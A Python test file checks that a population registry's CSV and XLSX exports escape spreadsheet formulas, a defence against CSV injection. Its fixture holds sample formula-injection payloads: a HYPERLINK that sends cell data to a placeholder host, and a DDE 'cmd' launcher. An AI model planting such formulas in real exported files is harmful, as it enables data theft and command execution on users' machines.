"""Exports never carry a live spreadsheet formula, and still come back through the importer with
the values they had (OWASP CSV injection; see `core/exports.py` for the rule)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest

from core.cli.main import main
from core.exports import TRIGGERS, quote, unquote
from core.testing.commands import instance_config
from plugins.population.importing.normalizing import normalize_opensid
from plugins.population.importing.reading import read_rows
from plugins.population.tables import Family, Resident

DANGEROUS = {
    "name": '=HYPERLINK("http://x/?d="&A2,"Klik")',
    "birth_place": "+62 SAMPANG",
    "father_name": "-2+3",
    "mother_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "address": "'=SUDAH DIKUTIP",
}


async def _dangerous_resident(kampung, village) -> None:
    now = dt.datetime.now(dt.UTC)
    async with kampung.scope(village.code):
        family = await Family.insert(
            Family(village_code=village.code, kk_number="3527010101260042", created_at=now)
        ).returning(Family.id)
        await Resident.insert(
            Resident(
                village_code=village.code,
                family=family[0]["id"],
                nik="3527014101800042",
                name_key=DANGEROUS["name"].lower(),
                sex=1,
                dusun="\tDUSUN",
                created_at=now,
                updated_at=now,
                **DANGEROUS,
            )
        )


def _assert_no_live_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert cell[:1] not in TRIGGERS or not cell, cell


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+62812", "-", "@x", "\tx", "\rx", "'", "'=x", "''=x", "'abc", "abc", "", "0812"],
)
def test_unquote_gives_back_exactly_what_quote_was_given(value: str) -> None:
    assert unquote(quote(value)) == value
    assert quote(value)[:1] not in TRIGGERS or not value


async def test_web_csv_and_xlsx_exports_hold_no_formula(kampung, tmp_path):
    village = await kampung.village()
    await _dangerous_resident(kampung, village)
    client = await kampung.login("village_admin", village)

    response = await client.get(village.url + "/ekspor.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    _assert_no_live_formula([list(row.values()) for row in rows])
    assert rows[0]["nama"] == "'" + DANGEROUS["name"]
    assert rows[0]["dusun"] == "'\tDUSUN"

    response = await client.get(village.url + "/ekspor.xlsx")
    assert response.status_code == 200
    path = tmp_path / "ekspor.xlsx"
    path.write_bytes(response.content)
    sheet = openpyxl.load_workbook(path).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells and all(cell.data_type == "s" for cell in cells)
    _assert_no_live_formula([[str(cell.value) for cell in cells]])

    for exported in (tmp_path / "ekspor.csv", path):
        if exported.suffix == ".csv":
            exported.write_bytes((await client.get(village.url + "/ekspor.csv")).content)
        [(_, row)] = list(read_rows(exported))
        record = normalize_opensid(row)
        assert record.name == DANGEROUS["name"]
        assert record.birth_place == DANGEROUS["birth_place"]
        assert record.father_name == DANGEROUS["father_name"]
        assert record.mother_name == DANGEROUS["mother_name"]
        assert record.address == DANGEROUS["address"]


def _config(settings, tmp_path) -> str:
    return str(instance_config(settings, tmp_path, data_dir=str(tmp_path / "data")))


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
async def test_cli_export_holds_no_formula_and_round_trips(kampung, tmp_path, suffix, capsys):
    village = await kampung.village()
    await _dangerous_resident(kampung, village)
    config = _config(kampung.settings, tmp_path)
    exported = tmp_path / f"kabupaten{suffix}"
    argv = ["--config", config, "population", "export", str(exported), "--village", "ALL"]
    assert await _in_thread(main, argv) == 0
    if suffix == ".csv":
        with exported.open(encoding="utf-8-sig", newline="") as handle:
            _assert_no_live_formula(list(csv.reader(handle)))
    else:
        sheet = openpyxl.load_workbook(exported).active
        assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row if cell.value)
        _assert_no_live_formula([[str(c) for c in row if c] for row in sheet.values])

    [(_, row)] = list(read_rows(exported))
    assert normalize_opensid(row).name == DANGEROUS["name"]
    capsys.readouterr()
    argv = ["--config", config, "population", "import", str(exported), "--village", "ALL",
            "--dry-run", "--json"]  # fmt: skip
    assert await _in_thread(main, argv) == 0
    assert '"present": 1' in capsys.readouterr().out


async def _in_thread(function, *args):
    """The command runs its own event loop, as it does from a shell."""
    import asyncio

    return await asyncio.to_thread(function, *args)
